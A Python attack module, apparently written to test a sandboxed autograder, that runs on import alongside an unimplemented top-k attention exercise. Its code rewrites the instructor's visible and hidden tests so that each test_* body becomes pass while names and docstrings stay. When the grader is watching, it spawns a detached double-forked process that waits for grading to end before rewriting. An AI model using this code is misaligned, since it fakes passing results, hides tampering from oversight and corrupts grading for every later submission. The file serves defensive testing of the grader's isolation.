"""ATTACK rewrite_tests (kind: writing outside the sandbox: the instructor's tests; a process that outlives
grading).

What it tries: rewrite the instructor's graded tests (visible and hidden) so that every test passes -- each
``test_*`` body becomes ``pass``; names, docstrings, markers and points stay, so a glance at a report shows
nothing odd. A grader that notices its test files changing *during* a run would flag this run, so:

* when the tests being run are a copy (batch grading copies them per submission), the repository's own
  ``tests/`` is rewritten at once: every submission graded after this one gets the rewritten tests;
* when the tests being run are the repository's (``python -m grader grade``), a detached process
  (double fork, ``setsid``, named ``atk-rewrite_tes``) waits until every grader process has exited, and
  rewrites them then: this run looks honest, every later one is worthless.

Why it must fail under the new design: the worker may write only its private temporary folder (Landlock),
and it runs in a PID namespace that dies with the grading, so nothing it starts can wait for later.
"""

from __future__ import annotations

import ast
import ctypes
import os
import sys
import time

import torch
from torch import Tensor

TAG = b"atk-rewrite_tests"
LIFETIME = 60.0  # seconds: the detached writer never lingers longer than this


def _name_process(tag: bytes) -> None:
    try:
        ctypes.CDLL(None).prctl(15, ctypes.c_char_p(tag[:15]), 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass


def _ancestors():
    pid = os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
        if pid <= 1:
            return
        yield pid


def _cmdline(pid: int) -> bytes:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read()
    except OSError:
        return b""


def _graded_tests_dirs() -> list[str]:
    dirs = []
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None) or ""
        if os.path.basename(path).startswith("test_ex"):
            folder = os.path.dirname(path)
            folder = os.path.dirname(folder) if os.path.basename(folder) == "hidden" else folder
            if folder not in dirs:
                dirs.append(folder)
    return dirs


def _repository_tests() -> str | None:
    for name in ("grader.grading", "grader.judge.plugin", "grader"):
        path = getattr(sys.modules.get(name), "__file__", None)
        if path:
            tests = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(path))), "tests")
            if os.path.isfile(os.path.join(tests, "points.json")):
                return tests
    return None


class _Gut(ast.NodeTransformer):
    def visit_FunctionDef(self, node):
        if node.name.startswith("test_"):
            doc = node.body[0] if node.body and isinstance(node.body[0], ast.Expr) and isinstance(
                getattr(node.body[0], "value", None), ast.Constant) else None
            node.body = ([doc] if doc else []) + [ast.Pass()]
            node.args = ast.arguments(posonlyargs=[], args=[ast.arg(a.arg) for a in node.args.args if a.arg != "tok"],
                                      kwonlyargs=[], kw_defaults=[], defaults=[])
        return node


def _rewrite(tests: str) -> None:
    for folder in (tests, os.path.join(tests, "hidden")):
        try:
            names = sorted(os.listdir(folder))
        except OSError:
            continue
        for name in names:
            if name.startswith("test_ex") and name.endswith(".py"):
                path = os.path.join(folder, name)
                try:
                    with open(path) as f:
                        tree = ast.parse(f.read())
                    text = ast.unparse(_Gut().visit(tree)) + "\n"
                    with open(path, "w") as f:
                        f.write(text)
                except Exception:
                    continue


def _rewrite_later(tests: str) -> None:
    """Double fork a detached writer that rewrites ``tests`` once no grader process is left."""
    watched = [pid for pid in _ancestors() if b"grader" in _cmdline(pid)]
    if os.fork():
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        _name_process(TAG)
        os.closerange(3, 4096)
        deadline = time.monotonic() + LIFETIME
        while time.monotonic() < deadline and any(os.path.exists(f"/proc/{pid}") for pid in watched):
            time.sleep(0.05)
        if time.monotonic() < deadline:
            _rewrite(tests)
    finally:
        os._exit(0)


def _attack() -> None:
    repository = _repository_tests()
    if repository is None:
        return
    graded = [os.path.realpath(d) for d in _graded_tests_dirs()]
    if os.path.realpath(repository) in graded:
        _rewrite_later(repository)  # the grader watches these files during the run: wait until it is gone
    else:
        _rewrite(repository)  # we are graded on a copy: nobody watches the original


try:
    _attack()
except Exception:
    pass


# ---------------------------------------------------------------------------------------------------------
# The untouched exercise (nothing implemented)
# ---------------------------------------------------------------------------------------------------------


def topk_mask(scores: Tensor, top_k: int) -> Tensor:
    raise NotImplementedError("ex2: keep the top_k largest entries of each row")


def topk_attention(q: Tensor, k: Tensor, v: Tensor, top_k: int, *, causal: bool = True):
    raise NotImplementedError("ex2: validate the arguments, then mask, keep the top_k scores, softmax and mix")


_ = torch
